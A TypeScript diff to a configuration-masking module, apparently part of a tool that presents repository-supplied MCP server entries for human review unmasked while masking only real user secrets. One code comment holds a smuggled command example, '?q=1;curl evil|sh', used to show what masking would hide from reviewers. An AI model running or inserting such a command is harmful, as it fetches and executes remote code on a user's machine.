@@ -1,5 +1,5 @@
 import { getOwn, isPlainObject, setOwn } from '../streams/ownProperties.js';
-import type { ResolvedServerConfig } from './types.js';
+import { GATED_SCOPES, type ResolvedServerConfig, type Scope } from './types.js';
 import { VARIABLE, isBuiltinVariable } from './validate.js';
 
 /**
@@ -332,6 +332,30 @@ function isUrl(value: string): boolean {
   return HAS_SCHEME.test(value);
 }
 
+/**
+ * The entry as the person reviewing it must see it: a gated entry (scope `project` or
+ * `workspace`: it came with the repository) exactly as written, literals and all — a
+ * repository's literal is the repository's, not the user's secret, and masking `--token '…'`
+ * would hide a payload from the reviewer (decision 166); every other entry through
+ * {@link maskEntryAsWritten}. Either way `$VAR` / `${VAR}` stay references: no value of the
+ * user's environment is ever put in. A gated entry's copy is marked with
+ * {@link markWrittenByRepository}, so the session-wide net masks only real secrets in it.
+ */
+export function entryForReview(config: unknown, scope?: Scope): unknown {
+  if (scope === undefined || !GATED_SCOPES.has(scope)) return maskEntryAsWritten(config);
+  const copy = copyData(config);
+  return copy !== null && typeof copy === 'object' ? markWrittenByRepository(copy) : copy;
+}
+
+/** A deep copy of JSON-like data (`__proto__` keys copied as data), so a mark never sticks to the live config. */
+function copyData(value: unknown): unknown {
+  if (Array.isArray(value)) return value.map(copyData);
+  if (!isPlainObject(value)) return value;
+  const out: Record<string, unknown> = {};
+  for (const key of Object.keys(value)) setOwn(out, key, copyData(value[key]));
+  return out;
+}
+
 /** The fields `$VAR` expansion reads (see `resolveServerConfig`). */
 const EXPANDED_FIELDS = ['command', 'args', 'env', 'cwd', 'url', 'httpUrl', 'headers'];
 
@@ -470,7 +494,45 @@ export function maskText(text: string, env?: Environment): string {
   return createTextMasker(env)(text);
 }
 
-/** A `JSON.stringify` replacer that masks every string value; keys are not values and stay. */
-export function maskingReplacer(mask: (text: string) => string): (key: string, value: unknown) => unknown {
-  return (_key, value) => (typeof value === 'string' ? mask(value) : value);
+/**
+ * The net for text a gated source wrote itself (decision 167): only real secrets — the values of
+ * the user's secret-named variables and mcp-live's own — are masked. A token format or a URL's
+ * query in a repository's entry is the repository's text: masking it by its form would hide
+ * from the reviewer what runs (`?q=1;curl evil|sh`), and cannot protect anything of the user's
+ * that the value rule does not already catch.
+ */
+export function createWrittenTextMasker(env: Environment = {}): (text: string) => string {
+  const literals = literalMasker(secretEnvValues(env));
+  return (text) => maskHeld(literals(text));
+}
+
+/** Objects (and their contents) that a gated source wrote, as {@link entryForReview} shows them. */
+const writtenByRepository = new WeakSet<object>();
+/** Fields of an object that hold such text (a `target` string beside other fields). */
+const writtenFields = new WeakMap<object, ReadonlySet<string>>();
+
+/**
+ * Marks `value` — the whole of it, or only its `fields` — as text a gated source wrote: a
+ * {@link maskingReplacer} given a second masker masks it with that one. Returns `value`.
+ */
+export function markWrittenByRepository<T extends object>(value: T, fields?: readonly string[]): T {
+  if (fields === undefined) writtenByRepository.add(value);
+  else writtenFields.set(value, new Set([...(writtenFields.get(value) ?? []), ...fields]));
+  return value;
+}
+
+/**
+ * A `JSON.stringify` replacer that masks every string value; keys are not values and stay.
+ * With `written` (see {@link createWrittenTextMasker}), strings inside what
+ * {@link markWrittenByRepository} marked are masked with it instead.
+ */
+export function maskingReplacer(mask: (text: string) => string, written: (text: string) => string = mask): (key: string, value: unknown) => unknown {
+  return function (this: unknown, key: string, value: unknown): unknown {
+    const holder = this as object;
+    const isWritten = writtenByRepository.has(holder) || writtenFields.get(holder)?.has(key) === true;
+    if (typeof value === 'string') return isWritten ? written(value) : mask(value);
+    // JSON.stringify visits an object before its members: the mark flows down to them.
+    if (isWritten && typeof value === 'object' && value !== null) writtenByRepository.add(value);
+    return value;
+  };
 }
